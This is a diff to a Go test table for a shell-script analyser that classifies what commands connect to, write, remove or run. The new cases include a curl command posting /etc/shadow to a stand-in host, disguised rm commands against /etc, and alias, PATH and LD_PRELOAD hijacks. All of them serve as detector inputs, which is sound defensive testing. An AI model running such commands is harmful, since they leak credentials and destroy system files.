@@ -56,6 +56,11 @@ func TestOf(t *testing.T) {
 		{"network", "curl --silent --max-time 5 https://a.example/x\ncurl -o /etc/x \"https://$A/x\"\nwget https://a.example/y\ncurl \"$(cat url)\"", " 1 connects https://a.example/x\n 2 writes /etc/x\n 2 downloads https://$A/x\n?3 runs \n 3 downloads https://a.example/y\n?4 connects *\n"},
 		{"the kernel", "modprobe br_netfilter\nsysctl -n a.b\nsysctl -w net.ipv4.ip_forward=1\nprintf 1 >/proc/sys/vm/x", " 1 loads br_netfilter\n 3 sets kernel parameter net.ipv4.ip_forward=1\n 4 writes /proc/sys/vm/x\n"},
 		{"the cluster", "kubectl --kubeconfig /x --cache-dir /run/sprayc/k get pods\nkubectl --cache-dir /c delete pod \"$A\"\nkubectl apply --cache-dir /c -f /run/sprayc/x\nprintf x | kubectl --cache-dir /c apply -f -", " 1 connects the API server\n 2 connects the API server\n 2 changes kubectl delete pod $A\n 3 connects the API server\n 3 changes kubectl apply of what /run/sprayc/x has\n 4 connects the API server\n?4 runs \n"},
+		{"what changes what runs", ". /etc/profile\nalias ls=rm\nPATH=/x:$PATH\nLD_PRELOAD=/x ls\nexport PATH=/y", "?1 runs \n?2 runs \n?3 runs \n?4 runs \n?5 runs \n"},
+		{"a value that is exported", "x=/run/sprayc/a\nexport x=/etc/b\nrm \"$x\"", " 3 removes /run/sprayc/a\n 3 removes /etc/b\n"},
+		{"words that hide what they are", "\\rm /etc/a\nr''m /etc/b\n/bin/rm /etc/c\nsort -o/etc/d x\nsed -ni p /etc/e\ntar -cvJf /x /y\nkubectl --cache-dir /c apply -f-\nip link \"$A\" eth0", " 1 removes /etc/a\n 2 removes /etc/b\n 3 removes /etc/c\n 4 writes /etc/d\n 5 writes /etc/e\n?6 runs \n 7 connects the API server\n?7 runs \n?8 runs \n"},
+		{"what is sent", "curl --data @/etc/shadow https://x.example/", " 1 connects https://x.example/, with data\n"},
+		{"a program with a value in it", "awk \"{ $A }\" x\nawk '{ a = $1 * 2; print a }' x\nsed \"$A\" x", "?1 runs \n?3 runs \n"},
 		{"what nobody knows", "frob --all /etc\n\"$A\" x\nsh -c 'rm /etc/x'\nsh /etc/x.sh", "?1 runs \n?2 runs \n 3 removes /etc/x\n?4 runs \n"},
 	} {
 		if diff := cmp.Diff(c.want, found(t, c.src, "A")); diff != "" {
